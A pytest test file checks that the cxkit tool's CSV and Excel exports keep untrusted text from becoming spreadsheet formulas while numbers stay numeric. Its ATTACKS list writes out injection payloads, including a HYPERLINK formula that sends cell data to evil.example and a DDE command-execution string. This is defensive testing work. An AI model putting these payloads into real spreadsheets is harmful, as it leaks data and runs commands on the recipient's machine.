"""Spreadsheet injection: text from other people never becomes a formula in a file cxkit
writes (``score -o`` .csv/.xlsx, ``export --to xlsx``, ``convert``), while numbers,
negatives included, stay numbers."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.hostile import builders as b

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
]


def _survey(folder: Path) -> Path:
    path = folder / "export.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["score", "segment"])
        for i, attack in enumerate(ATTACKS):
            w.writerow([i % 11, attack])
        w.writerow([0, "-5"])  # a number as text: no formula, left alone
        w.writerow([1, "-5"])
    return path


def _no_formula_anywhere(xlsx: Path) -> None:
    """No sheet in the file has a formula element (the raw XML, not openpyxl's view)."""
    with zipfile.ZipFile(xlsx) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name


def test_score_csv_quotes_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    survey = _survey(tmp_path)
    out = tmp_path / "scores.csv"
    proc = b.cli("score", survey, "--nps", "score", "--by", "segment", "-o", out)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(out.read_text("utf-8-sig").splitlines()))
    groups = [r["segment"] for r in rows]
    for attack in ATTACKS:
        assert "'" + attack in groups
        assert attack not in groups
    assert "-5" in groups  # a plain number stays as it is
    assert "-100.0" in [r["nps"] for r in rows]  # a negative score is a number, unquoted


def test_score_xlsx_stores_text_as_text(tmp_path: Path) -> None:
    survey = _survey(tmp_path)
    out = tmp_path / "scores.xlsx"
    proc = b.cli("score", survey, "--nps", "score", "--by", "segment", "-o", out)
    assert proc.returncode == 0, proc.stderr
    _no_formula_anywhere(out)
    ws = load_workbook(out)["scores"]
    header = [c.value for c in ws[1]]
    seg, nps = header.index("segment"), header.index("nps")
    cells = {row[seg].value: row for row in ws.iter_rows(min_row=2)}
    for attack in ATTACKS:
        cell = cells[attack][seg]
        assert cell.data_type == "s" and cell.quotePrefix, attack  # value unchanged, text
    score = cells["-5"][nps]
    assert score.data_type == "n" and score.value == -100  # a negative score stays a number


def _hostile_workbook(folder: Path) -> Path:
    q = [json.dumps(a) for a in ATTACKS]  # a JSON string is a YAML double-quoted scalar
    text = (
        "cxkit: 1\nclient:\n  name: Acme\npersonas:\n  - id: p\n    name: P\n"
        "journeys:\n  - id: j\n    title: J\n    persona: p\n    stages:\n"
        f"      - id: s\n        name: {q[0]}\n        touchpoints:\n"
        f"          - id: t\n            name: {q[1]}\n"
        "            channel: web\n            emotion: -2\n"
        f"            pain_points: [{q[2]}, {q[3]}, {q[4]}]\n"
    )
    return b.client(folder, text)


def test_export_xlsx_has_no_formula_and_keeps_negative_numbers(tmp_path: Path) -> None:
    acme = _hostile_workbook(tmp_path / "acme")
    out = tmp_path / "acme.xlsx"
    proc = b.cli("export", acme, "--to", "xlsx", "-o", out)
    assert proc.returncode == 0, proc.stderr
    _no_formula_anywhere(out)
    book = load_workbook(out)
    values = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    texts = {c.value for c in values if c.data_type == "s"}
    for attack in ATTACKS:
        assert attack in texts, attack
    assert any(c.value == -2 and c.data_type == "n" for c in values)  # emotion stays a number


def test_convert_to_excel_and_back_loses_nothing(tmp_path: Path) -> None:
    acme = _hostile_workbook(tmp_path / "acme")
    xlsx = tmp_path / "acme.xlsx"
    assert b.cli("convert", acme, xlsx).returncode == 0
    _no_formula_anywhere(xlsx)
    back = tmp_path / "back" / "workbook.yml"
    proc = b.cli("convert", xlsx, back)
    assert proc.returncode == 0, proc.stderr
    from cxkit.workbook import load_workbook as load

    assert load(back) == load(acme)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),
        ("-5", "-5"),
        ("-5.5e3", "-5.5e3"),
        ("-", "'-"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("@x", "'@x"),
        ("plain", "plain"),
        (-3, -3),
    ],
)
def test_the_one_csv_rule(value: object, expected: object) -> None:
    from cxkit._spreadsheet import csv_text

    assert csv_text(value) == expected
